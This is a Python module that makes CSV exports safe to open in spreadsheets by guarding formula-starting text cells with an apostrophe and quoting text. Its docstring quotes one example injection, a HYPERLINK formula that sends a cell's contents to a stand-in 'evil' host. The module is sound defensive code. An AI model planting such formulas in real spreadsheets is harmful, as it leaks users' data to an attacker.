"""CSV files that are safe to open in a spreadsheet: a cell that begins with `=`, `+`, `-`,
`@`, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula
(`=HYPERLINK("http://evil/?"&A2, "klik")` in a citizen's complaint would be live), so such
text cells get a leading apostrophe, which spreadsheets show as text and hide. Every text
cell is quoted too: an unquoted carriage return inside a text starts a new row, whose first
cell could again be a formula. Numbers are left alone (a negative score stays a number)."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"


def safe_cell(value: Any) -> Any:
    """`value` with a leading apostrophe when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return GUARD + value
    return value


def unguarded(value: Any) -> Any:
    """`safe_cell` undone: the text as it was before it was written (a CSV this project wrote,
    such as `aduan feedback export`, read back for training)."""
    if isinstance(value, str) and value.startswith(GUARD) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells cannot start a formula (see `safe_cell`)."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(safe_cell)
    return out


def write_csv(frame: pd.DataFrame, path: Path, header: bool = True) -> None:
    """Write `frame` as CSV with its text cells guarded and quoted (numbers unquoted)."""
    spreadsheet_safe(frame).to_csv(path, index=False, header=header, quoting=csv.QUOTE_NONNUMERIC)
